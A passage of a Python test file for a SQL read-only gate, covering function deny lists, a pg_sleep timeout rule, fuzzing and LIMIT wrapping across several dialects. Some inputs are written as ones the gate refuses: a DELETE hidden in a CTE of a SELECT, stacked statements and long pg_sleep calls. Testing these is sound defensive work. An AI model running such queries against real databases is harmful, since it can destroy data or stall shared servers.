    assert check_sql("SELECT ops.mask_email(email) FROM users", "postgres", wire=True,
                     allow_functions=["ops.*"]).allowed


def test_deny_functions_wins_over_allow_and_over_typed_functions() -> None:
    both = check_sql("SELECT mask(x) FROM t", "postgres", wire=True, allow_functions=["mask"],
                     deny_functions=["mask"])
    assert (both.allowed, both.code) == (False, "forbidden_function")
    assert "deny_functions" in both.reason
    # sqlglot types DATE_TRUNC as TIMESTAMP_TRUNC; the dialect's spelling is denied all the same
    typed = check_sql("SELECT date_trunc('day', ts) FROM t", "postgres", wire=True, deny_functions=["DATE_TRUNC"])
    assert typed.code == "forbidden_function"
    counted = check_sql("SELECT count(*) FROM t", "postgres", wire=True, deny_functions=["count"])
    assert counted.code == "forbidden_function"


def test_a_built_in_denial_is_lifted_only_by_the_exact_name() -> None:
    sql = "SELECT * FROM read_parquet('lake/*.parquet')"
    assert not check_sql(sql, "duckdb", wire=True, allow_functions=["read_*"]).allowed
    assert check_sql(sql, "duckdb", wire=True, allow_functions=["read_parquet"]).allowed


@pytest.mark.parametrize(("sql", "timeout_s", "allowed_"), [
    pytest.param("SELECT pg_sleep(0.5)", 30.0, True, id="short-sleep"),
    pytest.param("SELECT pg_sleep(29.9)", 30.0, True, id="just-under"),
    pytest.param("SELECT pg_sleep(30)", 30.0, False, id="equal-to-timeout"),
    pytest.param("SELECT pg_sleep(1)", None, False, id="no-timeout-known"),
    pytest.param("SELECT pg_sleep('1')", 30.0, False, id="string-argument"),
    pytest.param("SELECT * FROM pg_sleep(5), pg_sleep(5)", 30.0, True, id="two-small-in-from"),
])
def test_pg_sleep_rule(sql: str, timeout_s: float | None, allowed_: bool) -> None:
    assert check_sql(sql, "postgres", wire=True, timeout_s=timeout_s).allowed is allowed_


def test_require_read_only_raises_with_reason_and_kind() -> None:
    assert require_read_only("SELECT 1", "postgres", wire=True).allowed
    with pytest.raises(SqlRefused) as caught:
        require_read_only("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "postgres",
                          wire=True)
    error = caught.value
    assert error.code == "sql_refused"
    assert error.details["statement_kind"] == "SELECT"
    assert error.details["gate_code"] == "not_read_only"
    assert "DELETE" in error.details["reason"]
    assert error.to_dict()["code"] == "sql_refused"
    assert error.to_dict()["details"]["gateCode"] == "not_read_only"  # camelCase on the wire (ADR 0039)


def test_parse_errors_carry_line_and_column() -> None:
    decision = check("SELECT a,\n  FROM WHERE", "postgres")
    assert decision.code == "parse_error"
    assert "line 2" in decision.reason and "column" in decision.reason
    assert "\x1b" not in decision.reason


SQL_WORDS = ["SELECT", "1", "?", "$1", ":x", "@x", "FROM", "t", "(", ")", ",", "'a'", '"b"', "->", "->>", "?|",
             "#>", "@>", "||", "::", "[", "]", "WITH", "AS", "*", ";", "--c\n", "/*", "$$", "CASE", "WHEN", "END",
             "QUALIFY", "TABLESAMPLE", "LATERAL", "..", "EXCLUDE", "FILTER", "GROUP", "TABLE", "INTERVAL", ":=",
             "\0", "\udcff", "EXPLAIN", "PIVOT", "VALUES", "1e999"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SQL_WORDS), min_size=1, max_size=8).map(" ".join),
       st.sampled_from(["postgres", "duckdb", "sqlite", "bigquery", "snowflake"]))
def test_the_gate_decides_any_text_and_never_raises(sql: str, dialect: str) -> None:
    decision = check(sql, dialect)
    assert decision.reason
    if decision.allowed:
        wrap_with_limit(sql, dialect, 10)  # an allowed statement can be wrapped (or raises SqlRefused)


# --- wrap_with_limit -------------------------------------------------------------------------------

WRAP_CASES = [
    pytest.param("postgres", "SELECT id, total FROM orders ORDER BY total DESC", id="postgres"),
    pytest.param("duckdb", "SELECT id, total FROM orders ORDER BY total DESC", id="duckdb"),
    pytest.param("sqlite", "SELECT id, total FROM orders ORDER BY total DESC", id="sqlite"),
    pytest.param("bigquery", "SELECT id, total FROM `p.d.orders` ORDER BY total DESC", id="bigquery"),
    pytest.param("snowflake", "SELECT id, total FROM orders ORDER BY total DESC", id="snowflake"),
    pytest.param("postgres", "WITH big AS (SELECT * FROM orders WHERE total > 9) SELECT id FROM big ORDER BY id;",
                 id="postgres-cte-trailing-semicolon"),
    pytest.param("duckdb", "SELECT 1 AS x UNION ALL SELECT 2 ORDER BY x", id="duckdb-union"),
    pytest.param("sqlite", "/* why */ SELECT id FROM t ORDER BY id -- done", id="sqlite-comments"),
]


@pytest.mark.parametrize(("dialect", "sql"), WRAP_CASES)
def test_wrap_with_limit_renders_and_reparses(dialect: str, sql: str) -> None:
    wrapped = wrap_with_limit(sql, dialect, 100)
    outer = sqlglot.parse_one(wrapped, read=dialect)
    assert isinstance(outer, exp.Select)
    limit = outer.args["limit"].expression
    assert limit.to_py() == 101
    subquery = outer.args["from_"].this
    assert isinstance(subquery, exp.Subquery) and subquery.alias == "khive_q"
    assert subquery.this.args.get("order") is not None
    assert "/*" not in wrapped and "--" not in wrapped
    assert check(wrapped, dialect).allowed


@pytest.mark.parametrize(("dialect", "sql"), [
    ("postgres", "SELECT QUALIFY * TABLESAMPLE :x"),
    ("bigquery", "SELECT LATERAL .."),
    ("snowflake", "SELECT EXCLUDE FILTER FROM GROUP ... TABLE"),
])
def test_wrap_with_limit_refuses_what_sqlglot_parses_but_cannot_render(dialect: str, sql: str) -> None:
    with pytest.raises(SqlRefused) as refused:
        wrap_with_limit(sql, dialect, 10)
    assert refused.value.details["gate_code"] == "parse_error"
    assert "sqlglot could not read it" in refused.value.message


def test_wrap_with_limit_leaves_explain_alone() -> None:
    sql = "EXPLAIN (FORMAT JSON) SELECT * FROM orders"
    assert wrap_with_limit(sql, "postgres", 10) == sql


def test_wrap_with_limit_refuses_more_than_one_statement() -> None:
    with pytest.raises(SqlRefused):
        wrap_with_limit("SELECT 1; SELECT 2", "postgres", 10)
    with pytest.raises(SqlRefused):
        wrap_with_limit("SELECT " + "(" * 2000 + "1" + ")" * 2000, "postgres", 10)
    with pytest.raises(ValueError):
        wrap_with_limit("SELECT 1", "postgres", -1)


def test_wrapped_sql_runs_and_returns_limit_plus_one_in_order() -> None:
    values = ", ".join(f"({n})" for n in range(20))
    with duckdb.connect() as duck:
        duck.execute(f"CREATE TABLE t AS SELECT * FROM (VALUES {values}) AS v(n)")
        rows = duck.execute(wrap_with_limit("SELECT n FROM t ORDER BY n DESC", "duckdb", 5)).fetchall()
    assert rows == [(19,), (18,), (17,), (16,), (15,), (14,)]
    lite = sqlite3.connect(":memory:")
    try:
        lite.execute("CREATE TABLE t (n INTEGER)")
        lite.executemany("INSERT INTO t VALUES (?)", [(n,) for n in range(20)])
        rows = lite.execute(wrap_with_limit("SELECT n FROM t ORDER BY n", "sqlite", 2)).fetchall()
    finally:
        lite.close()
    assert rows == [(0,), (1,), (2,)]


# --- the TPC-H and TPC-DS workloads ----------------------------------------------------------------

def workload_files() -> list[object]:
    if not WORKLOADS.is_dir():
        return [pytest.param(None, None, marks=pytest.mark.skip(reason=f"no workloads at {WORKLOADS}"),
                             id="no-workloads")]
    params = []
    for path in sorted([*WORKLOADS.glob("tpch/*/*.sql"), *WORKLOADS.glob("tpcds/*/*.sql")]):
        benchmark, form = path.parts[-3], path.parts[-2]
        dialect = "duckdb" if form == "duckdb_queries" else "postgres"
        params.append(pytest.param(path, dialect, id=f"{benchmark}-{form}-{path.stem}"))
    return params


@pytest.mark.data
@pytest.mark.parametrize(("path", "dialect"), workload_files())
def test_tpc_queries_are_allowed(path: Path, dialect: str) -> None:
    sql = path.read_text(encoding="utf-8")
    decision = check(sql, dialect)
    assert decision.allowed, f"{path.name}: {decision.reason}"
    assert decision.tables
    wrapped = wrap_with_limit(sql, dialect, 1000)
    assert check(wrapped, dialect).allowed
